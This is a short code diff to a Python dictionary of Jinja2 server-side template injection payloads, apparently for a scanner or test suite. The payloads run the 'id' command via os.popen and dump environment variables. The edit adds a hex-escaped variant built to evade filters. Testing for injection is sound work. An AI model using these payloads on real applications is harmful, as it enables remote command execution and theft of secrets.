@@ -9,7 +9,7 @@ EVIL = "https://evil.example"
 TEMPLATES = {
     "popen": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
     "kali": "{{ 1234567*3 }}",
-    "kelas": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "kelas": r"{{ ''['\x5f\x5fclass\x5f\x5f'].mro()[1] }}",
     "siklus": "{{ cycler.__init__.__globals__.os.environ }}",
     "fakta": "{{ fakta.iuran_kelas_3 }} {{ daerah.nama }}",
     "rangkai": "{% set x = 1234567*3 %}{{ x }}",
